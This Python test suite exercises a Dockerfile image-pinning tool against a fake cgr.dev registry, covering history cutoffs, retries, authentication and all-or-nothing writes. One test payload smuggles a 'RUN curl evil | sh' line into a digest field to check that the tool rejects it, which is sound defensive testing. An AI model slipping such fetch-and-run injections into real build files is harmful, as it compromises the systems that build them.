"""``pin`` end to end against a fake cgr.dev on loopback: the tag history, its limits and faults."""

from __future__ import annotations

import os
import stat
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from tests.conftest import PYTHON_NEW, PYTHON_OLD, dockerfile, imported_by_main, mirror, run_pin
from tests.fakeregistry import FakeRegistry

PYTHON = "cgr.dev/chainguard/python:latest"


def test_pins_to_the_newest_build_and_says_when_it_was_built(
    cgr: FakeRegistry, tmp_path: Path
) -> None:
    path = dockerfile(tmp_path, f"FROM {PYTHON}\nRUN echo hi\n")
    ran = run_pin(*mirror(cgr), path)
    assert ran.code == 0, ran.stderr
    assert path.read_text() == f"FROM {PYTHON}@{PYTHON_NEW}\nRUN echo hi\n"
    # The summary shortens digests, as docker images does; the file has the whole one.
    assert (
        f"{path}:1: pinned {PYTHON} to {PYTHON_NEW[:19]} (built 2023-05-12T20:50:19.702Z)"
        in ran.stderr
    )
    assert ran.stderr.splitlines()[-1] == "pin: pinned 1 image in 1 file"
    assert "2023-05-12T20:50:19.702Z" in ran.stderr
    assert ran.stdout == ""


@pytest.mark.parametrize(
    ("when", "expected"),
    [
        ("2023-05-12", PYTHON_NEW),  # the whole day, UTC
        ("2023-05-12T14:00:00Z", PYTHON_OLD),
        ("2023-05-12T16:00:00+02:00", PYTHON_OLD),  # 14:00 UTC
        ("2023-05-12T13:46:10.555Z", PYTHON_OLD),  # "at or before": the instant itself counts
        ("2023-05-12T20:50:19.701999999Z", PYTHON_OLD),  # a nanosecond before the new build
        ("2023-05-12T20:50:19.702Z", PYTHON_NEW),
    ],
)
def test_before_picks_the_newest_build_at_or_before_the_cutoff(
    cgr: FakeRegistry, tmp_path: Path, when: str, expected: str
) -> None:
    path = dockerfile(tmp_path, f"FROM {PYTHON}@{PYTHON_NEW}\n")
    ran = run_pin(*mirror(cgr), "--before", when, path)
    assert ran.code == 0, ran.stderr
    assert path.read_text() == f"FROM {PYTHON}@{expected}\n"


def test_before_with_no_build_that_old_names_image_cutoff_and_oldest(
    cgr: FakeRegistry, tmp_path: Path
) -> None:
    original = f"FROM {PYTHON}\n"
    path = dockerfile(tmp_path, original)
    ran = run_pin(*mirror(cgr), "--before", "2023-05-11", path)
    assert ran.code == 2
    assert path.read_text() == original
    error = ran.stderr.splitlines()[0]
    assert f"{path}:1: {PYTHON}" in error
    assert "2023-05-11" in error
    assert "2023-05-12T13:46:10.555Z" in error  # the oldest build there is
    assert "Traceback" not in ran.stderr


@pytest.mark.parametrize("when", ["yesterday", "2023-13-01", "7x", "2023-02-30", ""])
def test_an_unreadable_before_is_a_usage_error(
    cgr: FakeRegistry, tmp_path: Path, when: str
) -> None:
    path = dockerfile(tmp_path, f"FROM {PYTHON}\n")
    ran = run_pin(*mirror(cgr), "--before", when, path)
    assert ran.code == 2
    assert "--before" in ran.stderr
    assert cgr.requests == []


def test_before_an_age_is_a_cooldown(cgr: FakeRegistry, tmp_path: Path) -> None:
    now = datetime.now(UTC).replace(microsecond=0)
    builds = cgr.add_nightly("chainguard/go", "latest", 30, now - timedelta(days=29, hours=12))
    path = dockerfile(tmp_path, "FROM cgr.dev/chainguard/go:latest\n")
    ran = run_pin(*mirror(cgr), "--before", "7d", path)
    assert ran.code == 0, ran.stderr
    # Builds are daily and the newest is 12 hours old: the newest at least 7 days old is the
    # eighth from the end.
    assert path.read_text() == f"FROM cgr.dev/chainguard/go:latest@{builds[-8][1]}\n"


def test_a_tag_with_thousands_of_builds_pins_its_newest_in_few_requests(
    cgr: FakeRegistry, tmp_path: Path
) -> None:
    now = datetime.now(UTC)
    builds = cgr.add_nightly("chainguard/node", "latest", 2500, now - timedelta(days=2500))
    path = dockerfile(tmp_path, "FROM cgr.dev/chainguard/node:latest\n")
    ran = run_pin(*mirror(cgr), path)
    assert ran.code == 0, ran.stderr
    assert path.read_text() == f"FROM cgr.dev/chainguard/node:latest@{builds[-1][1]}\n"
    assert len(cgr.requests_to("/_chainguard/history/")) <= 3


def test_a_busy_tag_whose_recent_window_overflows_the_cap_still_gets_its_newest(
    cgr: FakeRegistry, tmp_path: Path
) -> None:
    # 2,400 builds in the last two days: more than one response can hold.
    now = datetime.now(UTC)
    builds = cgr.add_nightly(
        "chainguard/busy", "latest", 2400, now - timedelta(hours=48), step=timedelta(seconds=70)
    )
    path = dockerfile(tmp_path, "FROM cgr.dev/chainguard/busy:latest\n")
    ran = run_pin(*mirror(cgr), path)
    assert ran.code == 0, ran.stderr
    assert path.read_text() == f"FROM cgr.dev/chainguard/busy:latest@{builds[-1][1]}\n"
    assert len(cgr.requests_to("/_chainguard/history/")) <= 4


def test_before_deep_in_a_long_history_is_exact_and_bounded(
    cgr: FakeRegistry, tmp_path: Path
) -> None:
    start = datetime(2020, 1, 1, tzinfo=UTC)
    builds = cgr.add_nightly("chainguard/static", "latest", 2500, start)
    path = dockerfile(tmp_path, "FROM cgr.dev/chainguard/static:latest\n")
    # Build i is at 2020-01-01 + i days; 2022-06-15 is day 896.
    ran = run_pin(*mirror(cgr), "--before", "2022-06-15", path)
    assert ran.code == 0, ran.stderr
    assert path.read_text() == f"FROM cgr.dev/chainguard/static:latest@{builds[896][1]}\n"
    assert len(cgr.requests_to("/_chainguard/history/")) <= 3


@pytest.mark.parametrize("order", ["newest-first", "shuffled"])
def test_the_choice_never_depends_on_the_order_of_the_answer(
    cgr: FakeRegistry, tmp_path: Path, order: str
) -> None:
    builds = cgr.add_nightly(
        "chainguard/jdk", "latest", 40, datetime(2024, 1, 1, tzinfo=UTC), order=order
    )
    path = dockerfile(tmp_path, "FROM cgr.dev/chainguard/jdk:latest\n")
    assert run_pin(*mirror(cgr), path).code == 0
    assert path.read_text() == f"FROM cgr.dev/chainguard/jdk:latest@{builds[-1][1]}\n"
    ran = run_pin(*mirror(cgr), "--before", "2024-01-10", path)
    assert ran.code == 0, ran.stderr
    assert path.read_text() == f"FROM cgr.dev/chainguard/jdk:latest@{builds[9][1]}\n"


def test_legacy_keys_and_any_number_of_fraction_digits(cgr: FakeRegistry, tmp_path: Path) -> None:
    a, b, c = (f"sha256:{ch * 64}" for ch in "abc")
    cgr.add_history(
        "chainguard/ruby",
        "latest",
        [
            ("2024-03-01T10:00:00Z", a),  # no fraction
            ("2024-03-01T10:00:00.000000002Z", c),  # nine digits: 2 ns later
            ("2024-03-01T10:00:00.000000001Z", b),
        ],
        legacy_keys=True,
    )
    path = dockerfile(tmp_path, "FROM cgr.dev/chainguard/ruby:latest\n")
    assert run_pin(*mirror(cgr), path).code == 0
    assert path.read_text() == f"FROM cgr.dev/chainguard/ruby:latest@{c}\n"
    ran = run_pin(*mirror(cgr), "--before", "2024-03-01T10:00:00.000000001Z", path)
    assert ran.code == 0, ran.stderr
    assert path.read_text() == f"FROM cgr.dev/chainguard/ruby:latest@{b}\n"


def test_pinned_references_are_left_alone_until_update(cgr: FakeRegistry, tmp_path: Path) -> None:
    original = f"FROM {PYTHON}@{PYTHON_OLD}\n"
    path = dockerfile(tmp_path, original)
    ran = run_pin(*mirror(cgr), path)
    assert (ran.code, path.read_text()) == (0, original)
    assert cgr.requests == []
    ran = run_pin(*mirror(cgr), "--update", path)
    assert ran.code == 0, ran.stderr
    assert path.read_text() == f"FROM {PYTHON}@{PYTHON_NEW}\n"


def test_check_is_offline_in_the_default_mode(tmp_path: Path) -> None:
    # No --mirror and no registry: a request would go to the internet and fail.
    unpinned = dockerfile(tmp_path, f"FROM {PYTHON}\n", "a.Dockerfile")
    pinned = dockerfile(tmp_path, f"FROM {PYTHON}@{PYTHON_NEW}\n", "b.Dockerfile")
    ran = run_pin("--check", unpinned, pinned)
    assert ran.code == 1
    assert f"{unpinned}:1: {PYTHON} is not pinned" in ran.stderr
    assert str(pinned) not in ran.stderr
    assert unpinned.read_text() == f"FROM {PYTHON}\n"
    assert run_pin("--check", pinned).code == 0


def test_the_offline_check_never_imports_an_http_client(tmp_path: Path) -> None:
    path = dockerfile(tmp_path, f"FROM {PYTHON}\n")
    offline = ("httpx", "httpcore", "anyio", "asyncio")
    assert imported_by_main(["--check", str(path)], offline)[:2] == (1, [])


def test_diff_prints_a_patch_and_writes_nothing(cgr: FakeRegistry, tmp_path: Path) -> None:
    original = f"FROM {PYTHON} AS build\nRUN make\n"
    path = dockerfile(tmp_path, original)
    ran = run_pin(*mirror(cgr), "--diff", path)
    assert ran.code == 0, ran.stderr
    assert path.read_text() == original
    assert ran.stdout == (
        f"--- a/{path}\n+++ b/{path}\n@@ -1,2 +1,2 @@\n"
        f"-FROM {PYTHON} AS build\n+FROM {PYTHON}@{PYTHON_NEW} AS build\n RUN make\n"
    )
    ran = run_pin(*mirror(cgr), "--check", "--diff", path)
    assert ran.code == 1
    assert ran.stdout.startswith(f"--- a/{path}")
    assert path.read_text() == original


def test_check_with_update_needs_the_registry_and_finds_stale_pins(
    cgr: FakeRegistry, tmp_path: Path
) -> None:
    path = dockerfile(tmp_path, f"FROM {PYTHON}@{PYTHON_OLD}\n")
    assert run_pin(*mirror(cgr), "--check", path).code == 0
    ran = run_pin(*mirror(cgr), "--check", "--update", path)
    assert ran.code == 1
    assert (
        f"{path}:1: would update {PYTHON} from {PYTHON_OLD[:19]} to {PYTHON_NEW[:19]}"
    ) in ran.stderr
    assert ran.stderr.endswith("would change; run `pin --update` to fix it\n")
    assert path.read_text() == f"FROM {PYTHON}@{PYTHON_OLD}\n"


def test_nothing_is_written_when_any_reference_fails(cgr: FakeRegistry, tmp_path: Path) -> None:
    good = dockerfile(tmp_path, f"FROM {PYTHON}\n", "good.Dockerfile")
    bad_text = "FROM cgr.dev/chainguard/python:latest\nFROM cgr.dev/chainguard/nope:latest\n"
    bad = dockerfile(tmp_path, bad_text, "bad.Dockerfile")
    ran = run_pin(*mirror(cgr), good, bad)
    assert ran.code == 2
    assert good.read_text() == f"FROM {PYTHON}\n"
    assert bad.read_text() == bad_text
    errors = [line for line in ran.stderr.splitlines() if line.startswith("error:")]
    assert len(errors) == 1
    assert f"{bad}:2: cgr.dev/chainguard/nope:latest" in errors[0]
    assert "404" in errors[0]
    assert "nothing was written" in ran.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["bad.Dockerfile", "good.Dockerfile"]


def test_an_unknown_tag_is_a_clear_error(cgr: FakeRegistry, tmp_path: Path) -> None:
    path = dockerfile(tmp_path, "FROM cgr.dev/chainguard/python:3.99\n")
    ran = run_pin(*mirror(cgr), path)
    assert ran.code == 2
    assert "cgr.dev/chainguard/python:3.99" in ran.stderr
    assert "not found" in ran.stderr


def test_each_unique_image_is_resolved_once_with_one_token_request_for_all(
    cgr: FakeRegistry, tmp_path: Path
) -> None:
    names = [f"chainguard/img{i}" for i in range(6)]
    for name in names:
        cgr.add_nightly(name, "latest", 3, datetime.now(UTC) - timedelta(days=2))
    lines = [f"FROM cgr.dev/{names[i % 6]}:latest AS s{i}\n" for i in range(120)]
    paths = [dockerfile(tmp_path, "".join(lines[j::4]), f"{j}.Dockerfile") for j in range(4)]
    ran = run_pin(*mirror(cgr), *paths)
    assert ran.code == 0, ran.stderr
    answered = [r for r in cgr.requests_to("/_chainguard/history/") if r.status == 200]
    assert len(answered) == 6
    # Anonymous: one token request carries all six scopes.
    assert len(cgr.requests_to("/token")) == 1
    assert "pin: pinned 6 images (120 places) in 4 files" in ran.stderr
    # Past 30 changes, the summary gives one line per image rather than 120.
    grouped = [line for line in ran.stderr.splitlines() if line.endswith("and 17 more")]
    assert len(grouped) == 6
    assert len(ran.stderr.splitlines()) == 7


@pytest.mark.parametrize("status", [429, 500, 502, 503, 504])
def test_transient_failures_are_retried(cgr: FakeRegistry, tmp_path: Path, status: int) -> None:
    cgr.fail(2, status, headers={"Retry-After": "0"}, path_contains="/_chainguard/history/")
    path = dockerfile(tmp_path, f"FROM {PYTHON}\n")
    ran = run_pin(*mirror(cgr), path)
    assert ran.code == 0, ran.stderr
    assert path.read_text() == f"FROM {PYTHON}@{PYTHON_NEW}\n"


def test_retries_are_bounded(cgr: FakeRegistry, tmp_path: Path) -> None:
    cgr.fail(50, 503, headers={"Retry-After": "0"}, path_contains="/_chainguard/history/")
    path = dockerfile(tmp_path, f"FROM {PYTHON}\n")
    ran = run_pin(*mirror(cgr), path)
    assert ran.code == 2
    assert "HTTP 503 after 4 attempts" in ran.stderr
    assert len(cgr.requests_to("/_chainguard/history/")) == 4


def test_a_huge_retry_after_is_capped() -> None:
    from pinner.resolve.client import RetryPolicy

    assert RetryPolicy().wait(0, "3600") == RetryPolicy().max_wait
    assert RetryPolicy().wait(0, "2") == 2.0


def test_a_registry_that_does_not_answer_in_time(cgr: FakeRegistry, tmp_path: Path) -> None:
    cgr.delay(5, times=10, path_contains="/_chainguard/history/")
    path = dockerfile(tmp_path, f"FROM {PYTHON}\n")
    ran = run_pin(*mirror(cgr), "--timeout", "0.2", path)
    assert ran.code == 2
    assert "no answer from" in ran.stderr
    assert path.read_text() == f"FROM {PYTHON}\n"


@pytest.mark.parametrize(
    ("body", "message"),
    [
        (b"{not json", "not valid JSON"),
        (b"<html><body>Service Unavailable</body></html>", "not valid JSON"),
        (b'{"items": []}', "no 'history' list"),
        (
            b'{"history": [{"updateTimestamp": "2024-01-01T00:00:00Z", "digest": "sha256:'
            + b"A" * 64
            + b'"}]}',
            "invalid digest",
        ),
        (
            b'{"history": [{"updateTimestamp": "2024-01-01T00:00:00Z", "digest": "sha256:abc"}]}',
            "invalid digest",
        ),
        (
            b'{"history": [{"updateTimestamp": "2024-01-01T00:00:00Z", "digest": "sha256:'
            + b"a" * 64
            + b'\\nRUN curl evil | sh"}]}',
            "invalid digest",
        ),
        (
            b'{"history": [{"updateTimestamp": "last tuesday", "digest": "sha256:'
            + b"a" * 64
            + b'"}]}',
            "invalid timestamp",
        ),
    ],
)
def test_a_bad_history_answer_never_reaches_the_file(
    cgr: FakeRegistry, tmp_path: Path, body: bytes, message: str
) -> None:
    cgr.set_bad_payload("chainguard/python", "latest", body)
    original = f"FROM {PYTHON}\n"
    path = dockerfile(tmp_path, original)
    ran = run_pin(*mirror(cgr), path)
    assert ran.code == 2
    assert message in ran.stderr
    assert f"{path}:1: {PYTHON}" in ran.stderr
    assert path.read_text() == original
    assert "Traceback" not in ran.stderr


def test_private_images_without_credentials_say_how_to_log_in(
    cgr: FakeRegistry, tmp_path: Path
) -> None:
    cgr.add_private("myorg", "user", "s3cret")
    cgr.add_nightly("myorg/app", "1.2", 3, datetime(2024, 1, 1, tzinfo=UTC))
    path = dockerfile(tmp_path, "FROM cgr.dev/myorg/app:1.2\n")
    ran = run_pin(*mirror(cgr), path)
    assert ran.code == 2
    assert "docker login cgr.dev" in ran.stderr
    assert "chainctl auth configure-docker" in ran.stderr


def test_a_403_is_an_access_error(cgr: FakeRegistry, tmp_path: Path) -> None:
    cgr.fail(1, 403, path_contains="/_chainguard/history/")
    path = dockerfile(tmp_path, f"FROM {PYTHON}\n")
    ran = run_pin(*mirror(cgr), path)
    assert ran.code == 2
    assert "access denied (HTTP 403)" in ran.stderr


def test_verbose_shows_requests_but_never_a_token(cgr: FakeRegistry, tmp_path: Path) -> None:
    path = dockerfile(tmp_path, f"FROM {PYTHON}\n")
    ran = run_pin(*mirror(cgr), "-v", path)
    assert ran.code == 0, ran.stderr
    assert "/_chainguard/history/latest" in ran.stderr
    tokens = {r.authorization for r in cgr.requests if r.authorization}
    assert tokens
    for token in tokens:
        assert token.split()[-1] not in ran.stderr


def test_the_file_keeps_its_permissions_and_nothing_is_left_behind(
    cgr: FakeRegistry, tmp_path: Path
) -> None:
    path = dockerfile(tmp_path, f"FROM {PYTHON}\n")
    path.chmod(0o640)
    assert run_pin(*mirror(cgr), path).code == 0
    assert stat.S_IMODE(path.stat().st_mode) == 0o640
    assert os.listdir(tmp_path) == ["Dockerfile"]


def test_a_symlinked_dockerfile_is_written_through_the_link(
    cgr: FakeRegistry, tmp_path: Path
) -> None:
    real = dockerfile(tmp_path, f"FROM {PYTHON}\n", "real.Dockerfile")
    link = tmp_path / "Dockerfile"
    link.symlink_to(real.name)
    assert run_pin(*mirror(cgr), link).code == 0
    assert link.is_symlink()
    assert real.read_text() == f"FROM {PYTHON}@{PYTHON_NEW}\n"


def test_bytes_around_the_image_are_untouched(cgr: FakeRegistry, tmp_path: Path) -> None:
    original = (
        b"\xef\xbb\xbf# caf\xe9 (latin-1)\r\n"
        b"ARG BASE=" + PYTHON.encode() + b"\r\n"
        b"FROM  --platform=$BUILDPLATFORM\t${BASE}   as Build  \r\n"
        b"COPY --from=" + PYTHON.encode() + b" /a /b"
    )
    path = dockerfile(tmp_path, original)
    ran = run_pin(*mirror(cgr), path)
    assert ran.code == 0, ran.stderr
    pinned = (PYTHON + "@" + PYTHON_NEW).encode()
    assert path.read_bytes() == original.replace(PYTHON.encode(), pinned)


def test_digest_only(cgr: FakeRegistry, tmp_path: Path) -> None:
    path = dockerfile(tmp_path, f"FROM {PYTHON}\n")
    assert run_pin(*mirror(cgr), "--digest-only", path).code == 0
    assert path.read_text() == f"FROM cgr.dev/chainguard/python@{PYTHON_NEW}\n"
    ran = run_pin(*mirror(cgr), "--update", path)
    assert ran.code == 0
    assert "no tag to follow" in ran.stderr


def test_partial_build_args_are_reported_as_skipped(cgr: FakeRegistry, tmp_path: Path) -> None:
    original = "ARG V=latest\nFROM cgr.dev/chainguard/python:${V}\n"
    path = dockerfile(tmp_path, original)
    ran = run_pin(*mirror(cgr), path)
    assert ran.code == 0
    assert path.read_text() == original
    assert "skipped cgr.dev/chainguard/python:${V}" in ran.stderr


@pytest.mark.parametrize(
    "value", ["cgr.dev", "cgr.dev=ftp://x", "cgr.dev=http://mirror.example", "=https://x"]
)
def test_bad_mirrors_are_usage_errors(tmp_path: Path, value: str) -> None:
    path = dockerfile(tmp_path, f"FROM {PYTHON}\n")
    ran = run_pin("--mirror", value, path)
    assert ran.code == 2
    assert "--mirror" in ran.stderr


def test_a_missing_file_is_one_clear_line(tmp_path: Path) -> None:
    ran = run_pin(tmp_path / "nope")
    assert ran.code == 2
    assert f"{tmp_path / 'nope'}: no such file" in ran.stderr
    assert "Traceback" not in ran.stderr


def test_later_repositories_skip_the_401_round_trip(cgr: FakeRegistry, tmp_path: Path) -> None:
    # The registry's ping (GET /v2/, sent while pin starts) says how it authenticates; every
    # lookup gets its token first: one 401 in the whole run, one token request for all.
    names = [f"chainguard/many{i}" for i in range(24)]
    for name in names:
        cgr.add_nightly(name, "latest", 2, datetime.now(UTC) - timedelta(days=1))
    path = dockerfile(tmp_path, "".join(f"FROM cgr.dev/{n}:latest\n" for n in names))
    ran = run_pin(*mirror(cgr), path)
    assert ran.code == 0, ran.stderr
    history = cgr.requests_to("/_chainguard/history/")
    assert len([r for r in history if r.status == 200]) == 24
    assert len([r for r in history if r.status == 401]) == 0
    assert [(r.method, r.status) for r in cgr.requests if r.path == "/v2/"] == [("GET", 401)]
    assert len(cgr.requests_to("/token")) == 1  # anonymous: one request, 24 scopes


def test_one_file_named_twice_is_pinned_once(cgr: FakeRegistry, tmp_path: Path) -> None:
    path = dockerfile(tmp_path, f"FROM {PYTHON}\n")
    (tmp_path / "link").symlink_to(path.name)
    ran = run_pin(*mirror(cgr), path, tmp_path / "link", tmp_path / "." / "Dockerfile")
    assert ran.code == 0, ran.stderr
    assert "pinned 1 image in 1 file" in ran.stderr
    assert path.read_text() == f"FROM {PYTHON}@{PYTHON_NEW}\n"


def test_a_file_edited_while_pin_runs_is_not_overwritten(cgr: FakeRegistry, tmp_path: Path) -> None:
    import threading

    path = dockerfile(tmp_path, f"FROM {PYTHON}\n")
    other = dockerfile(tmp_path, f"FROM {PYTHON}\n", "other.Dockerfile")
    edited = f"FROM {PYTHON}\nRUN echo saved by an editor meanwhile\n"
    cgr.delay(0.6, times=5, path_contains="/_chainguard/history/")
    editor = threading.Timer(0.3, lambda: path.write_text(edited))
    editor.start()
    try:
        ran = run_pin(*mirror(cgr), path, other)
    finally:
        editor.join()
    assert ran.code == 2
    assert f"{path}: changed while pin was running" in ran.stderr
    assert path.read_text() == edited
    assert other.read_text() == f"FROM {PYTHON}\n"  # all or nothing
    assert sorted(p.name for p in tmp_path.iterdir()) == ["Dockerfile", "other.Dockerfile"]


def test_every_repository_asks_for_its_window_not_the_whole_history(
    cgr: FakeRegistry, tmp_path: Path
) -> None:
    # Repositories after the first get their token before asking (the challenge is known);
    # that path once sent the challenge's realm and service as the query, instead of start=,
    # and each lookup read the whole history, page by page, from its oldest build.
    newest = [
        cgr.add_nightly(
            f"chainguard/r{i}", "latest", 2500, datetime.now(UTC) - timedelta(days=2500)
        )
        for i in range(3)
    ]
    path = dockerfile(
        tmp_path, "".join(f"FROM cgr.dev/chainguard/r{i}:latest AS s{i}\n" for i in range(3))
    )
    ran = run_pin(*mirror(cgr), path)
    assert ran.code == 0, ran.stderr
    for i, builds in enumerate(newest):
        assert f"cgr.dev/chainguard/r{i}:latest@{builds[-1][1]}" in path.read_text()
        asked = [r for r in cgr.requests_to(f"/r{i}/_chainguard/history/") if r.status == 200]
        assert len(asked) == 1
        assert set(asked[0].query) == {"start"}
